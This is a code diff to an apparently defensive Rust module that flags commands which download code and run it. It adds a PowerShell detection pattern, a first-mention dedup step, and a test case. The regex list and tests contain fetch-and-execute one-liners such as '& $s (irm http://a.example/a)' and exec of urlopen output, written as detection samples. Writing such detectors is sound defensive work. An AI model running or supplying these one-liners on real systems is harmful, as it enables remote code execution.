@@ -1,6 +1,6 @@
 //! What is fetched from the network, and whether it is run.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 use std::ops::Range;
 use std::sync::LazyLock;
 
@@ -39,6 +39,7 @@ static RUNS_ANYTHING: LazyLock<Patterns> = LazyLock::new(|| {
         r"\b(?:invoke-expression|invoke-command|invokescript|invokecommand)\b|scriptblock\]::create|assembly\]::load",
         r"\|\s*(?:powershell|pwsh|cmd|sh|bash|python)\b",
         r"\bdo\s+(?:@|call\s+|start\s+|cmd\s+/c\s+)*%%?[a-z]\b",
+        r#"&\s*["'(]*\$[\w:]+["')]*\s*\(*\s*(?:irm|iwr|invoke-webrequest|invoke-restmethod|new-object\s+[\w.]*webclient)\b"#,
         r"\b(?:os\.system|subprocess\.\w+|exec|eval|execglobal|executeglobal)\s*\(|\bexecute(?:global)?\s+\w",
     ])
 });
@@ -118,8 +119,14 @@ fn written(text: &str) -> Vec<Written> {
         return Vec::new();
     }
     let found = WRITTEN.iter().flat_map(|pattern| pattern.captures_iter(text).take(MAX_NAMES));
+    let mut first: BTreeMap<&str, usize> = BTreeMap::new();
     let files = found.filter_map(|found| {
         let path = found.get(1)?;
+        // What follows a later mention follows the first one as well.
+        if first.get(path.as_str()).is_some_and(|known| *known <= path.start()) {
+            return None;
+        }
+        first.insert(path.as_str(), path.start());
         let later = text.get(path.end()..)?;
         let name = name(path.as_str()).to_owned();
         let is_variable = path.as_str().starts_with('$');
@@ -215,6 +222,7 @@ mod tests {
             "invoke-webrequest $u -outfile $f\nstart-process $f",
             "for /f %i in ('nslookup -q=txt a.example') do %i",
             "$x.load('http://a.example/a.xml');iex $x.a",
+            "& $s (irm http://a.example/a)",
             "exec(urllib.request.urlopen('http://a.example').read())",
         ] {
             assert!(fetched(line).is_some() && is_run(&[line]), "{line}");
